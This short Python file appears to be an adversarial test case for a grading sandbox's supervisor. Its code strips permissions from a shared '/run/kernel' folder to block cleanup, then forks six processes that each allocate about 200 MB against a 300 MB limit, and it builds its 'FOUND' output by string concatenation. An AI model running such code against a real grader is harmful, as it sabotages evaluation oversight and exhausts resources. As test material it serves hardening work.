# ruff: noqa
"""
goal = "lock the folder that is shared with the grader: the supervisor stumbles, and nobody can clear it away"
invariant = "all processes of a submission together stay below its memory, and nothing is left of it"
held_by = ["supervisor"]
limits = { memory_megabytes = 300 }
"""

# %% last
import os
import time

os.chmod("/run/kernel", 0)
time.sleep(1)
for _ in range(6):
    if os.fork() == 0:
        kept = bytearray(b"x") * 200_000_000
        time.sleep(6)
        os._exit(0)
time.sleep(4)
print("FOU" + "ND")
